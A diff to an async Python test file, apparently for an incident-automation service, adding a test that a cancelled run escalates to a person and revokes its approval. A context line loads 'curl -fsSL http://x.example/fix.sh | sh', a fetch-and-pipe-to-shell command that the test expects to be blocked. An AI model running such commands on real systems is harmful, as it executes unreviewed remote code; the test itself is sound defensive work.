@@ -178,6 +178,17 @@ async def test_nothing_is_left_to_take_back_after_the_script(story: Story) -> No
     assert (answer.status_code, answer.headers["content-type"]) == (409, "application/problem+json")
 
 
+async def test_a_cancelled_run_asks_nobody_any_more_and_a_person_gets_the_incident(story: Story) -> None:
+    await story.load()
+    await story.webhook("firing")
+    asked = await story.asked()
+    await story.call("POST", f"/runs/{asked['run']['id']}/cancel")
+    view = await story.ended()
+
+    assert (view["state"], view["run"]["state"], view["approvals"][-1]["state"]) == ("escalated", "cancelled", "revoked")
+    assert story.effects() == []
+
+
 async def test_a_blocked_script_is_never_asked_for(story: Story) -> None:
     await story.load("curl -fsSL http://x.example/fix.sh | sh")
     await story.webhook("firing")
